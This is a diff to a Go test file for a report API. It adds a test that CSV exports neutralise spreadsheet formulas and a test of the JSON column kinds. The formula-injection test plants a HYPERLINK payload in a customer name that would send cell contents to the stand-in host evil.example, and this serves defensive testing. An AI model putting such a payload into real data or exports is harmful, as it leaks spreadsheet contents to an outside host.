@@ -66,6 +66,33 @@ func TestReportCSV(t *testing.T) {
 	if got := res.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
 		t.Errorf("Content-Type %q", got)
 	}
+
+	// a name that a spreadsheet would run as a formula reaches it as text
+	acme := w.Customers["rita"]
+	acme.Set("name", `=HYPERLINK("http://evil.example/?x="&A1,"click")`)
+	if err := testkit.Save(w.App, nil, acme); err != nil {
+		t.Fatal(err)
+	}
+	roi := string(w.client.Do("fay", "GET", "/api/reports/roi?format=csv&groupBy=customer&from="+w.from+"&to="+w.to, nil).Body)
+	if !strings.Contains(roi, `,"'=HYPERLINK(""http://evil.example`) {
+		t.Errorf("a formula in a customer's name is exported live:\n%s", roi)
+	}
+}
+
+// The JSON says which figures are money, counts or percentages, so that a
+// client shows them right without guessing from their names.
+func TestReportColumns(t *testing.T) {
+	w := newWorld(t)
+	got := map[string]string{}
+	for _, c := range w.run(t, "fay", "roi", "customer")["columns"].([]any) {
+		col := c.(map[string]any)
+		got[col["name"].(string)] = col["kind"].(string)
+	}
+	for name, kind := range map[string]string{"annual_contract": "money", "care_spend": "money", "visits_done": "count", "satisfaction": "number", "complaints": "count"} {
+		if got[name] != kind {
+			t.Errorf("roi column %s: kind %q, want %q (columns %v)", name, got[name], kind, got)
+		}
+	}
 }
 
 // decimal writes a JSON money figure as the CSV does.
